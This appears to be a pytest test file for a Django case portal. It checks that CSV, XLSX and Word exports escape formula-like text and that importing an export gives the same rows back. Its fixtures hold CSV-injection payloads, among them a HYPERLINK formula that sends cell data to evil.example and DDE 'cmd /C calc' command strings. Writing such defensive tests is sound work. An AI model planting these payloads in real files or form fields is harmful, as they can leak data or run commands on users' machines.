"""Formula injection (OWASP "CSV injection"): text that a spreadsheet would run as a formula is written by every
file the portal makes so that it reads back as the same text, never as a formula; an import of an export gives
the same rows back."""

import csv
import io

import pytest
import time_machine
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from cases.core import safe
from cases.exchange.dossiers import DossierImporter
from cases.exchange.export import export_dossiers, export_queryset
from cases.followup.appraisal import appraise
from cases.models import Dossier, DossierStep, Rating
from reports.documents import appraisal as appraisal_workbook
from reports.documents import docx as docx_letter
from reports.documents import official
from reports.documents import xlsx as tally_workbook
from reports.figures.periods import Period
from reports.figures.tally import tally
from tests.conftest import make, vn

NOW = vn(2024, 3, 8, 10, 0)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "#N/A",
]
# Leading blanks are trimmed by every input (form and import); data from before may still carry them.
BLANK_LED = ["\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def hostile(units, procedures, cast):
    """Dossiers whose name, phone and address are each a formula-like text (from a form, an import, or online)."""
    made = []
    for number, text in enumerate(HOSTILE, start=1):
        dossier = make(
            f"DBD-PH-240301-{number:04d}",
            units["pu_hong"],
            procedures["land"],
            vn(2024, 3, 1, 8),
            vn(2024, 3, 7, 8),
            applicant_phone="0912345678",  # a phone is digits by now (cases.core.contact); legacy ones below
            applicant_address=text,
            handler=cast["desk_pu_hong"],
        )
        dossier.applicant_name = text
        dossier.save(update_fields=["applicant_name"])
        made.append(dossier)
    return made


def no_formula(book):
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_the_csv_export_guards_every_formula_like_cell_and_its_import_gives_the_same_rows(hostile, tmp_path):
    path = tmp_path / "ho-so.csv"
    export_dossiers(path, export_queryset())
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(safe.FORMULA_START), f"a live formula in the CSV: {cell!r}"
    names = sorted(row[8] for row in rows[1:])
    assert names == sorted("'" + text if text.startswith((*safe.FORMULA_START, "'=")) else text for text in HOSTILE)

    result = DossierImporter(path).validate()
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(HOSTILE))
    assert sorted(Dossier.objects.values_list("applicant_name", flat=True)) == sorted(HOSTILE)


def test_the_xlsx_export_writes_text_cells_that_read_back_as_the_same_text(hostile, tmp_path):
    path = tmp_path / "ho-so.xlsx"
    export_dossiers(path, export_queryset())
    book = load_workbook(path)
    assert no_formula(book) == []
    sheet = book.worksheets[0]
    read = {(row[8].value, row[9].value, row[10].value) for row in sheet.iter_rows(min_row=2)}
    assert read == {(text, "0912345678", text) for text in HOSTILE}

    result = DossierImporter(path).validate()
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(HOSTILE))


def test_cells_led_by_a_tab_or_a_carriage_return_are_guarded(units, procedures, tmp_path):
    for number, text in enumerate(BLANK_LED, start=1):
        make(
            f"T{number}",
            units["pu_hong"],
            procedures["land"],
            vn(2024, 3, 1, 8),
            vn(2024, 3, 8, 8),
            applicant_address=text,
            applicant_phone=text,  # from before the phone rule: guarded like any other cell
        )
    export_dossiers(tmp_path / "a.csv", export_queryset())
    rows = list(csv.reader(open(tmp_path / "a.csv", encoding="utf-8-sig", newline="")))  # noqa: SIM115
    assert sorted(row[10] for row in rows[1:]) == sorted("'" + text for text in BLANK_LED)
    assert sorted(row[9] for row in rows[1:]) == sorted("'" + text for text in BLANK_LED)
    export_dossiers(tmp_path / "a.xlsx", export_queryset())
    book = load_workbook(tmp_path / "a.xlsx")
    assert no_formula(book) == []
    assert sorted(row[10].value for row in book.worksheets[0].iter_rows(min_row=2)) == sorted(BLANK_LED)


def test_the_lists_downloads_are_guarded_too(client, cast, hostile):
    client.force_login(cast["desk_pu_hong"])
    response = client.get(reverse("cases:dossier_export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert all(not cell.startswith(safe.FORMULA_START) for row in rows for cell in row)
    assert {row[8] for row in rows[1:]} >= {"'" + HOSTILE[0], "'+84 912 345 678"}

    response = client.get(reverse("cases:dossier_export", args=["xlsx"]))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert no_formula(book) == []
    assert {row[8].value for row in book.worksheets[0].iter_rows(min_row=2)} == set(HOSTILE)


def test_the_rejected_rows_file_of_an_import_is_guarded(units, procedures, tmp_path):
    source = tmp_path / "vao.csv"
    source.write_text(
        "ma_ho_so,ma_thu_tuc,ma_don_vi,ngay_tiep_nhan,hinh_thuc_nop,nguoi_nop\n"
        'X1,9.999999,DBD-PH,01/03/2024,truc_tiep,"=HYPERLINK(""http://evil.example"")"\n',
        encoding="utf-8",
    )
    importer = DossierImporter(source, keep_rejected=True)
    importer.validate()
    target = tmp_path / "vao.loi.csv"
    importer.write_rejected(target)
    rows = list(csv.reader(open(target, encoding="utf-8-sig", newline="")))  # noqa: SIM115
    assert rows[1][5] == '\'=HYPERLINK("http://evil.example")'


def test_the_06a_keeps_only_its_own_totals_as_formulas(hostile, units):
    units["pu_hong"].name = "=1+1"
    units["pu_hong"].save()
    book = load_workbook(_saved(official.workbook(tally(Period(vn(2024, 3, 1).date(), vn(2024, 3, 31).date())))))
    formulas = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas, "the form's totals are formulas"
    for cell in formulas:
        # Only sums of the figure columns (C…M) of the form's own rows.
        assert cell.column >= official.FIRST_FIGURE_COLUMN, cell.coordinate
    names = [cell.value for sheet in book.worksheets for cell in sheet["B"]]
    assert "=1+1" in names


def test_the_tally_workbook_and_letter_take_hostile_unit_names(hostile, units):
    units["pu_hong"].name = '=HYPERLINK("http://evil.example")\x0b'  # a control character XML cannot hold
    units["pu_hong"].save()
    Rating.objects.create(dossier=hostile[0], level="hai_long", source="phieu", rated_at=vn(2024, 3, 8, 9))
    result = tally(Period(vn(2024, 3, 1).date(), vn(2024, 3, 31).date()))
    book = load_workbook(_saved(tally_workbook.workbook(result)))
    assert no_formula(book) == []
    assert '=HYPERLINK("http://evil.example")' in [cell.value for cell in book.worksheets[0]["B"]]
    letter = Document(_saved(docx_letter.letter(result)))  # nor does it break the letter
    assert letter.paragraphs
    # The satisfaction table names the unit as it is, without the control character.
    cells = [cell.text for table in letter.tables for row in table.rows for cell in row.cells]
    assert '=HYPERLINK("http://evil.example")' in cells


def test_the_appraisal_workbook_has_no_formula_from_names(hostile, units, cast):
    officer = cast["desk_pu_hong"]
    officer.first_name = "=cmd|' /C calc'!A0"
    officer.save()
    units["pu_hong"].name = "@SUM(A1)"
    units["pu_hong"].save()
    # The officials sheet counts steps: one held by the officer, one by a name imported without an account.
    for holder, name in ((officer, ""), (None, '=HYPERLINK("http://evil.example")')):
        DossierStep.objects.create(
            dossier=hostile[0], number=1, name="Tiếp nhận", performer="mot_cua", unit=units["pu_hong"], holder=holder,
            holder_name=name, handed_at=vn(2024, 3, 1, 8), taken_at=vn(2024, 3, 1, 8), seconds=14400,
            due_at=vn(2024, 3, 1, 12), finished_at=vn(2024, 3, 1, 9), end="chuyen",
        )  # fmt: skip
    # Rated: the satisfaction columns of both sheets are filled in for the hostile names too.
    Rating.objects.create(dossier=hostile[0], level="khong_hai_long", source="phieu", rated_at=vn(2024, 3, 8, 9))
    result = appraise(Period(vn(2024, 3, 1).date(), vn(2024, 3, 31).date()), scope=units["district"])
    book = load_workbook(_saved(appraisal_workbook.workbook(result)))
    assert no_formula(book) == []
    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert {"=cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://evil.example")'} <= values


def test_from_csv_undoes_exactly_what_to_csv_did():
    for text in [*HOSTILE, *BLANK_LED, "'", "'abc", "''=x", "Nguyễn Văn A", "", "0912345678"]:
        assert safe.from_csv(safe.to_csv(text)) == text


def _saved(document):
    buffer = io.BytesIO()
    document.save(buffer)
    buffer.seek(0)
    return buffer
